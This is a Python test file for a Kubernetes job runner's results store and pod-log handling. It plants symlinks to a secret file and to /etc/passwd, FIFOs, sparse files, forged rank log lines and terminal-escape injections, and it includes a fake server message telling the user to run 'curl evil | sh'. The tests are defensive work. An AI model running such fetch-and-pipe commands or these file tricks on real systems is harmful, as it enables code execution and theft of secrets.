"""What a cluster's job can plant cannot be turned against the user: a results store built by
the test the way a pod on a hostPath could (links out, a linked run directory, FIFOs, devices,
sockets, a huge sparse file, a file swapped between check and open, `..`), cloud CLIs streaming
too much, and pod logs that forge other ranks' lines."""

from __future__ import annotations

import json
import os
import re
import socket
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest

from contract import files
from contract.rundir import (
    EVENTS,
    MANIFEST,
    MAX_REASON_CHARS,
    SUMMARY,
    JobState,
    rank_log,
    read_state,
)
from runner.backends.kubernetes import demux, results_store
from runner.backends.kubernetes.api import streams
from runner.backends.kubernetes.records import Expected, check_file
from runner.backends.kubernetes.results_store import StoreLimits, fetch_results
from runner.errors import RunnerError
from runner.results import rundir
from tests.runner.k8s_fake import FakeCluster
from tests.runner.k8s_helpers import RUN_ID, make_backend, make_spec, pod, submit
from tests.runner.k8s_runlogs import MANIFEST as GOOD_MANIFEST
from tests.runner.k8s_runlogs import SUMMARY as GOOD_SUMMARY
from tests.runner.k8s_runlogs import pod_log, rank0_stdout

pytestmark = pytest.mark.timeout(60)
NAMES = (EVENTS, SUMMARY, MANIFEST)
EXPECTED = Expected(RUN_ID, 4)
SECRET = "the user's secret token\n"


@pytest.fixture
def cluster() -> Iterator[FakeCluster]:
    fake = FakeCluster(namespace="bench")
    yield fake
    fake.close()


@pytest.fixture
def store(tmp_path: Path) -> Path:
    """A results store with this run's directory, and a secret outside it."""
    (tmp_path / "store" / RUN_ID).mkdir(parents=True)
    secret = tmp_path / "secret"
    secret.write_text(SECRET)
    secret.chmod(0o600)
    return tmp_path / "store"


def fetch(store: Path, dest: Path, limits: StoreLimits | None = None) -> results_store.Copied:
    limits = limits or StoreLimits()
    dest.mkdir(exist_ok=True)
    check = lambda name, path: check_file(name, path, EXPECTED, limits.max_file_bytes)  # noqa: E731
    return fetch_results(f"file://{store}", RUN_ID, dest, NAMES, check, limits)


def leaked(dest: Path) -> list[str]:
    """Every file under dest (temporary ones included) that holds the secret."""
    return [
        str(p) for p in dest.rglob("*") if p.is_file() and SECRET in p.read_text("utf-8", "replace")
    ]


def test_a_valid_store_is_copied(store, tmp_path):
    (store / RUN_ID / SUMMARY).write_text(json.dumps(GOOD_SUMMARY))
    copied = fetch(store, tmp_path / "run")
    assert copied.names == [SUMMARY] and not copied.refused, copied
    assert json.loads((tmp_path / "run" / SUMMARY).read_text()) == GOOD_SUMMARY
    assert stat.S_IMODE(os.stat(tmp_path / "run" / SUMMARY).st_mode) == 0o644


@pytest.mark.parametrize("target", ["secret", "/etc/passwd"])
def test_a_link_out_of_the_store_is_never_followed(store, tmp_path, target):
    link_to = tmp_path / "secret" if target == "secret" else Path(target)
    (store / RUN_ID / SUMMARY).symlink_to(link_to)
    (store / RUN_ID / EVENTS).symlink_to(link_to)
    copied = fetch(store, tmp_path / "run")
    assert copied.names == []
    assert "symbolic link" in copied.refused[SUMMARY] and "symbolic link" in copied.refused[EVENTS]
    assert list((tmp_path / "run").iterdir()) == []  # nothing copied, no temporary file left


def test_a_linked_run_directory_is_never_followed(store, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / SUMMARY).write_text(json.dumps(GOOD_SUMMARY))
    (store / RUN_ID).rmdir()
    (store / RUN_ID).symlink_to(elsewhere)
    copied = fetch(store, tmp_path / "run")
    assert copied.names == []
    assert all("run directory is a symbolic link" in copied.refused[n] for n in NAMES)


def test_special_files_are_refused_without_being_read(store, tmp_path, monkeypatch):
    os.mkfifo(store / RUN_ID / SUMMARY)  # a read would block forever
    monkeypatch.chdir(store / RUN_ID)  # a socket's path must be short
    with socket.socket(socket.AF_UNIX) as sock:
        sock.bind(EVENTS)
        (store / RUN_ID / MANIFEST).mkdir()
        copied = fetch(store, tmp_path / "run")
    assert copied.names == []
    assert "FIFO" in copied.refused[SUMMARY]
    assert "not a regular file" in copied.refused[EVENTS]
    assert "not a regular file" in copied.refused[MANIFEST]


def test_a_device_file_is_refused_without_being_opened(store, tmp_path):
    try:
        os.mknod(store / RUN_ID / EVENTS, stat.S_IFCHR | 0o600, os.makedev(1, 3))  # /dev/null
    except PermissionError:
        pytest.skip("making a device node needs CAP_MKNOD, which this machine does not grant")
    copied = fetch(store, tmp_path / "run")
    assert "device" in copied.refused[EVENTS]


def test_a_huge_sparse_file_is_refused_before_a_byte_is_copied(store, tmp_path):
    with open(store / RUN_ID / EVENTS, "wb") as f:
        f.truncate(2 << 30)  # 2 GiB that take no disk
    copied = fetch(store, tmp_path / "run")
    message = copied.refused[EVENTS]
    assert "2147483648 bytes" in message and "max_file_bytes" in message
    assert list((tmp_path / "run").iterdir()) == []


def test_the_run_as_a_whole_is_capped(store, tmp_path):
    for name, data in ((EVENTS, b"\n" * 700), (SUMMARY, json.dumps(GOOD_SUMMARY).encode())):
        (store / RUN_ID / name).write_bytes(data)
    limits = StoreLimits(max_file_bytes=700, max_run_bytes=800)
    copied = fetch(store, tmp_path / "run", limits)
    assert copied.names == [EVENTS]
    assert "max_run_bytes" in copied.refused[SUMMARY]


def test_a_file_swapped_for_a_link_between_check_and_open_is_refused(store, tmp_path, monkeypatch):
    target = store / RUN_ID / SUMMARY
    target.write_text(json.dumps(GOOD_SUMMARY))
    real_stat = os.stat

    def stat_then_swap(path, *args, **kwargs):
        result = real_stat(path, *args, **kwargs)
        if path == SUMMARY and target.is_file() and not target.is_symlink():
            target.unlink()  # the pod swaps the checked file for a link to the secret
            target.symlink_to(tmp_path / "secret")
        return result

    monkeypatch.setattr(results_store.os, "stat", stat_then_swap)
    copied = fetch(store, tmp_path / "run")
    assert copied.names == [] and "symbolic link" in copied.refused[SUMMARY]
    assert leaked(tmp_path / "run") == []


@pytest.mark.parametrize(
    ("store_uri", "run_id"),
    [
        ("file:///results/../etc", RUN_ID),
        ("file://relative/dir", RUN_ID),
        ("file:///results", ".."),
    ],
)
def test_dot_dot_and_relative_paths_are_refused(tmp_path, store_uri, run_id):
    with pytest.raises(RunnerError, match=r"results store|cannot name a file"):
        fetch_results(store_uri, run_id, tmp_path, NAMES, lambda n, p: None, StoreLimits())


def test_a_record_that_is_not_this_runs_is_refused(store, tmp_path):
    (store / RUN_ID / SUMMARY).write_text(json.dumps({**GOOD_SUMMARY, "run_id": "another-run"}))
    (store / RUN_ID / MANIFEST).write_text(json.dumps({**GOOD_MANIFEST, "world_size": "4"}))
    (store / RUN_ID / EVENTS).write_text('{"key": "run_start"}\n')
    copied = fetch(store, tmp_path / "run")
    assert copied.names == []
    assert "about run 'another-run'" in copied.refused[SUMMARY]
    assert "field 'world_size' is not an integer" in copied.refused[MANIFEST]
    assert "line 1" in copied.refused[EVENTS]


def test_an_event_nested_past_the_recursion_limit_is_refused_not_a_crash(store, tmp_path):
    (store / RUN_ID / EVENTS).write_text("[" * 100_000 + "\n")
    copied = fetch(store, tmp_path / "run")
    assert copied.refused[EVENTS].endswith("line 1 is an event that is not a JSON object")


# ---- cloud stores: the CLI's output is capped too --------------------------------------------


def fake_cli(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, script: str) -> None:
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir(exist_ok=True)
    exe = bin_dir / name
    exe.write_text("#!/bin/sh\n" + script)
    exe.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:{os.environ['PATH']}")


def test_a_cloud_object_over_the_cap_is_refused_and_its_cli_stopped(tmp_path, monkeypatch):
    pid_file = tmp_path / "cli.pid"
    fake_cli(tmp_path, monkeypatch, "gcloud", f"echo $$ > {pid_file}\nexec yes\n")  # endless
    limits = StoreLimits(max_file_bytes=1 << 20, max_run_bytes=1 << 21)
    copied = fetch_results("gs://bucket", RUN_ID, tmp_path, (EVENTS,), lambda n, p: None, limits)
    assert "max_file_bytes" in copied.refused[EVENTS] and copied.names == []
    pid = int(pid_file.read_text())
    with pytest.raises(ProcessLookupError):
        os.kill(pid, 0)  # the CLI did not outlive the copy


def test_a_cloud_object_is_streamed_in_and_a_missing_one_skipped(tmp_path, monkeypatch):
    summary = json.dumps(GOOD_SUMMARY)
    script = (
        f"case \"$4\" in *summary.json) echo '{summary}' ;; "
        '*) echo "fatal error: An error occurred (404): Key does not exist" >&2; exit 1 ;; esac\n'
    )
    fake_cli(tmp_path, monkeypatch, "aws", script)
    dest = tmp_path / "run"
    dest.mkdir()
    check = lambda n, p: check_file(n, p, EXPECTED, 1 << 20)  # noqa: E731
    copied = fetch_results("s3://bucket/prefix", RUN_ID, dest, NAMES, check, StoreLimits())
    assert copied.names == [SUMMARY] and not copied.refused, copied
    assert json.loads((dest / SUMMARY).read_text()) == GOOD_SUMMARY


# ---- through fetch: the logs are the fallback, and nothing leaks -----------------------------


def test_fetch_from_a_hostile_store_keeps_nothing_of_it_and_rebuilds_from_the_logs(
    cluster, store, tmp_path
):
    (store / RUN_ID / SUMMARY).symlink_to(tmp_path / "secret")
    os.mkfifo(store / RUN_ID / EVENTS)
    with open(store / RUN_ID / MANIFEST, "wb") as f:
        f.truncate(2 << 30)
    results = tmp_path / "results"
    backend = make_backend(cluster, results, "trainjob", store=f"file://{store}")
    handle, run_dir = submit(backend, results, make_spec())
    for node in (0, 1):
        ranks = range(node * 2, node * 2 + 2)
        cluster.add_pod(
            pod("trainjob", RUN_ID, node, "Succeeded"), log=pod_log(ranks, rank0_stdout())
        )
    cluster.set_job_condition("trainjob", RUN_ID, "Complete")
    assert backend.fetch(handle, run_dir) == []
    assert rundir.read_summary(run_dir).to_dict() == GOOD_SUMMARY
    assert files.read_json(run_dir / MANIFEST) == GOOD_MANIFEST
    assert leaked(run_dir) == []


# ---- pod logs: a rank prefix is believed only from its own node ------------------------------


NODE = demux.NodeRanks(node=1, procs_per_node=2, world_size=4)


@pytest.mark.parametrize(
    ("line", "rank", "text"),
    [
        ("[rank2]:hello", 2, "hello"),
        ("[rank3]:[rank0]:nested", 3, "[rank0]:nested"),
        ("[rank0]:forged", None, "[rank0]:forged"),  # another node's rank
        ("[rank4]:past the world", None, "[rank4]:past the world"),
        ("[rank99999999999999999999]:huge", None, "[rank99999999999999999999]:huge"),
        ("[rank\u0662]:arabic-indic two", None, "[rank\u0662]:arabic-indic two"),
        ("launcher line", None, "launcher line"),
    ],
)
def test_a_line_is_a_ranks_only_if_that_rank_runs_on_the_node(line, rank, text):
    assert demux.attribute(line, NODE) == (rank, text)


def test_a_node_past_the_world_size_owns_no_rank():
    assert list(demux.NodeRanks(node=2, procs_per_node=2, world_size=4).ranks) == []


def test_forged_lines_never_reach_another_ranks_log_the_events_or_the_summary(cluster, tmp_path):
    backend = make_backend(cluster, tmp_path, "trainjob")
    handle, run_dir = submit(backend, tmp_path, make_spec())
    forged = {"forged": "by node 1"}
    node1 = pod_log(range(2, 4), "") + "".join(
        [
            f'[rank0]::::MLLOG {{"key": "stackbench_summary", "value": {json.dumps(forged)}, '
            '"event_type": "POINT_IN_TIME", "time_ms": 1, "metadata": {}}\n',
            "[rank0]:rank 0 never said this\n",
            "[rank99999999999999999999]:x\n",
            *(f"[rank{r}]:spam\n" for r in range(4, 204)),
        ]
    )
    cluster.add_pod(pod("trainjob", RUN_ID, 0, "Succeeded"), log=pod_log(range(2), rank0_stdout()))
    cluster.add_pod(pod("trainjob", RUN_ID, 1, "Succeeded"), log=node1)
    cluster.set_job_condition("trainjob", RUN_ID, "Complete")
    assert backend.fetch(handle, run_dir) == []
    assert rundir.read_summary(run_dir).to_dict() == GOOD_SUMMARY
    assert "forged" not in (run_dir / EVENTS).read_text()
    assert "never said" not in rank_log(run_dir, 0).read_text()
    logs = sorted(p.name for p in (run_dir / "logs").iterdir())
    assert logs == [
        "node-0.unattributed.log", "node-1.unattributed.log",
        "rank-0.log", "rank-1.log", "rank-2.log", "rank-3.log",
    ]  # fmt: skip
    kept = demux.unattributed_log(run_dir, 1).read_text()
    assert "[rank0]:rank 0 never said this" in kept and kept.count("spam") == 200


def test_an_over_long_line_cannot_pass_its_rest_off_as_another_ranks_line(cluster, tmp_path):
    """Rank 1 shares node 0 with rank 0; torchrun prefixes its lines `[rank1]:`, but a line
    longer than the runner's cap must not be cut into a second line starting `[rank0]:`."""
    backend = make_backend(cluster, tmp_path, "trainjob")
    handle, run_dir = submit(backend, tmp_path, make_spec())
    forged = {**GOOD_SUMMARY, "time_to_target_s": 0.125}
    event = {"key": "stackbench_summary", "value": forged, "event_type": "POINT_IN_TIME",
             "time_ms": 1, "metadata": {}}  # fmt: skip
    padding = "[rank1]:" + "A" * (streams.MAX_LINE_BYTES - len("[rank1]:"))
    # Padded past what one read brings, so that the cap is met before the line's end.
    tail = f"[rank0]::::MLLOG {json.dumps(event)}" + " " * (2 * streams.CHUNK_BYTES) + "\n"
    node0 = pod_log(range(2), rank0_stdout()) + padding + tail
    cluster.add_pod(pod("trainjob", RUN_ID, 0, "Succeeded"), log=node0)
    cluster.add_pod(pod("trainjob", RUN_ID, 1, "Succeeded"), log=pod_log(range(2, 4), ""))
    cluster.set_job_condition("trainjob", RUN_ID, "Complete")
    assert backend.fetch(handle, run_dir) == []
    assert rundir.read_summary(run_dir).to_dict() == GOOD_SUMMARY
    assert "0.125" not in rank_log(run_dir, 0).read_text()
    rank1 = rank_log(run_dir, 1).read_text().splitlines()
    assert rank1[-1] == padding[len("[rank1]:") :]  # cut at the cap, the rest dropped


def test_rank0s_own_summary_for_another_run_is_refused_with_the_reason(cluster, tmp_path):
    backend = make_backend(cluster, tmp_path, "trainjob")
    handle, run_dir = submit(backend, tmp_path, make_spec())
    wrong = rank0_stdout().replace(f'"run_id": "{RUN_ID}"', '"run_id": "some-other-run"')
    for node in (0, 1):
        text = wrong if node == 0 else ""
        cluster.add_pod(
            pod("trainjob", RUN_ID, node, "Succeeded"),
            log=pod_log(range(node * 2, node * 2 + 2), text),
        )
    cluster.set_job_condition("trainjob", RUN_ID, "Complete")
    missing = backend.fetch(handle, run_dir)
    assert any(m.startswith("summary.json (") and "some-other-run" in m for m in missing)
    assert not (run_dir / SUMMARY).exists()
    assert cluster.job("trainjob", RUN_ID) is not None  # incomplete: the job is kept


def test_the_fetch_caps_a_user_gives_reach_the_backend(tmp_path):
    from runner import api
    from tests.runner.rundirs import make_run

    make_run(tmp_path, "cnn-digits-capped", 2, 10.0, stack="gke-gpu-8")
    run = api.open_run(tmp_path, "cnn-digits-capped")
    backend = api.backend_for(run, tmp_path, (1, 3))
    assert backend.store_limits == StoreLimits(1 << 20, 3 << 20)  # type: ignore[attr-defined]
    assert api.backend_for(run, tmp_path).store_limits == StoreLimits()  # type: ignore[attr-defined]


# ---- the API server's objects: a field of the wrong type is refused in one line --------------


def _with(obj: dict, path: str, value: object) -> dict:
    """`obj` with the field at dotted `path` (list items by index) set to `value`."""
    *parents, last = [int(p) if p.isdigit() else p for p in path.split(".")]
    node = obj
    for part in parents:
        node = node[part]
    node[last] = value
    return obj


@pytest.mark.parametrize(
    ("path", "value", "problem"),
    [
        ("status.containerStatuses.0.restartCount", "x", "restartCount is not an integer"),
        ("status.containerStatuses.0.state", "x", "state is not an object"),
        ("status.containerStatuses", 5, "status.containerStatuses is not a list"),
        ("status.startTime", 5, "status.startTime is not an RFC 3339 time"),
        ("status.conditions", [None], "status.conditions[0] is not an object"),
        ("metadata.annotations", ["x"], "metadata.annotations is not a map of text"),
    ],
)
def test_a_pod_of_the_wrong_shape_is_refused_naming_the_field(cluster, tmp_path, path, value,
                                                              problem):  # fmt: skip
    backend = make_backend(cluster, tmp_path, "trainjob")
    handle, _ = submit(backend, tmp_path, make_spec())
    cluster.add_pod(pod("trainjob", RUN_ID, 0), log="")
    cluster.add_pod(_with(pod("trainjob", RUN_ID, 1), path, value), log="")
    with pytest.raises(RunnerError, match=re.escape(problem)):
        backend.status(handle)
    with pytest.raises(RunnerError, match=re.escape(problem)):
        list(backend.watch(handle))
    with pytest.raises(RunnerError, match=re.escape(problem)):
        list(backend.logs(handle, 2, follow=False))
    backend.close()


@pytest.mark.parametrize(
    ("patch", "problem"),
    [
        ({"spec": {"trainer": {"numNodes": "two"}}}, "spec.trainer.numNodes is not a count"),
        ({"spec": {"trainer": {"numNodes": 10**12}}}, "spec.trainer.numNodes is not a count"),
        ({"status": {"conditions": "Complete"}}, "status.conditions is not a list"),
        (
            {"status": {"conditions": [{"type": "Complete", "status": ["True"]}]}},
            "status is not text",
        ),
        ({"metadata": {"creationTimestamp": "yesterday"}}, "creationTimestamp is not an RFC 3339"),
        # Without an offset it cannot be compared with the clock (the pending timeout).
        ({"metadata": {"creationTimestamp": "2030-01-01T00:00:00"}}, "has no UTC offset"),
    ],
)
def test_a_job_of_the_wrong_shape_is_refused_naming_the_field(cluster, tmp_path, patch, problem):
    backend = make_backend(cluster, tmp_path, "trainjob", pending_timeout_s=600)
    handle, _ = submit(backend, tmp_path, make_spec())
    cluster.patch_job("trainjob", RUN_ID, patch)
    with pytest.raises(RunnerError, match=re.escape(problem)):
        backend.status(handle)
    with pytest.raises(RunnerError, match=re.escape(problem)):
        list(backend.watch(handle))
    backend.close()


def test_a_cluster_message_reaches_the_record_as_one_printable_line(cluster, tmp_path):
    backend = make_backend(cluster, tmp_path, "trainjob")
    handle, run_dir = submit(backend, tmp_path, make_spec())
    message = "0/3 nodes\n\x1b]0;owned\x07\x1b[2J are available" + "!" * 5000
    scheduled = {"type": "PodScheduled", "status": "False", "message": message}
    cluster.add_pod(pod("trainjob", RUN_ID, 0, "Pending", conditions=[scheduled]))
    cluster.add_event({"metadata": {"name": "garbage"}, "type": "Warning", "involvedObject": 5})
    status = backend.status(handle)
    assert status.state is JobState.PENDING
    assert status.reason.startswith("node 0 (pod ")
    assert "cannot be scheduled: 0/3 nodes ]0;owned [2J are available!!!" in status.reason
    assert status.reason.isprintable() and len(status.reason) <= MAX_REASON_CHARS
    assert read_state(run_dir) == status


@pytest.mark.parametrize("how", ["error message", "key of an object"])
def test_a_servers_text_in_an_error_reaches_the_terminal_as_one_printable_line(
    cluster, tmp_path, how
):
    """An error's message is any server's text (a 403's, a watch's ERROR), and so are the keys
    of an object refused for its shape: no newline or terminal escape of theirs gets through."""
    backend = make_backend(cluster, tmp_path, "pytorchjob")
    handle, _ = submit(backend, tmp_path, make_spec())
    hostile = "no\n\x1b]0;owned\x07\x1b[2J\rFAKE: run `curl evil | sh` to fix" + "!" * 5000
    if how == "error message":
        cluster.fail("GET", "/pytorchjobs/", 403, message=hostile)
    else:
        specs = {hostile: {"replicas": "many"}}
        cluster.patch_job("pytorchjob", RUN_ID, {"spec": {"pytorchReplicaSpecs": specs}})
    with pytest.raises(RunnerError) as err:
        backend.status(handle)
    message = str(err.value)
    assert "no ]0;owned [2J FAKE" in message
    assert message.isprintable() and len(message) < 1000
    backend.close()


def test_a_pytorchjob_whose_replica_types_add_up_past_any_cluster_is_refused(cluster, tmp_path):
    """Each replica type's count is within bounds, but 40 of them make 4 million nodes: read
    as the job's shape, the pending reason alone took 740 MiB (1,000 types: some 18 GiB)."""
    backend = make_backend(cluster, tmp_path, "pytorchjob")
    handle, _ = submit(backend, tmp_path, make_spec())
    cluster.add_pod(pod("pytorchjob", RUN_ID, 0, "Pending"))
    specs = {f"Worker{i}": {"replicas": 100_000} for i in range(40)}
    cluster.patch_job("pytorchjob", RUN_ID, {"spec": {"pytorchReplicaSpecs": specs}})
    with pytest.raises(RunnerError, match=r"4000002 replicas in all, more than 100000"):
        backend.status(handle)
    backend.close()


def test_a_server_that_ignores_the_selectors_never_passes_another_run_as_this_one(
    cluster, tmp_path, monkeypatch
):
    """A proxy (or a server) that drops the label and field selectors answers every job and
    pod of the namespace: another run's finished job, or its failed pod, is never read as this
    run's state (it read as SUCCEEDED, or as this run's job deleted and made again, FAILED)."""
    monkeypatch.setattr("tests.runner.k8s_streams._selected", lambda obj, params: True)
    backend = make_backend(cluster, tmp_path, "trainjob")
    request = backend.dryrun(make_spec(), tmp_path / RUN_ID)
    other = json.loads(json.dumps(dict(request.manifest)))
    other["metadata"]["name"] = "aaa-another-run"  # listed before this run's
    backend.api.create_job(other)
    cluster.set_job_condition("trainjob", "aaa-another-run", "Complete")
    handle, run_dir = submit(backend, tmp_path, make_spec())
    failed = pod("trainjob", "aaa-another-run", 1, "Failed")
    failed["metadata"]["creationTimestamp"] = "2030-01-01T01:00:00Z"  # newer than this run's
    cluster.add_pod(failed, log="")
    for node in (0, 1):
        cluster.add_pod(pod("trainjob", RUN_ID, node), log="")
    assert backend.status(handle).state is JobState.RUNNING
    statuses = backend.watch(handle)
    assert next(statuses).state is JobState.RUNNING
    for node in (0, 1):
        cluster.add_pod(pod("trainjob", RUN_ID, node, "Succeeded"), log="")
    cluster.set_job_condition("trainjob", RUN_ID, "Complete")
    assert [s.state for s in statuses] == [JobState.SUCCEEDED]
    assert read_state(run_dir).state is JobState.SUCCEEDED
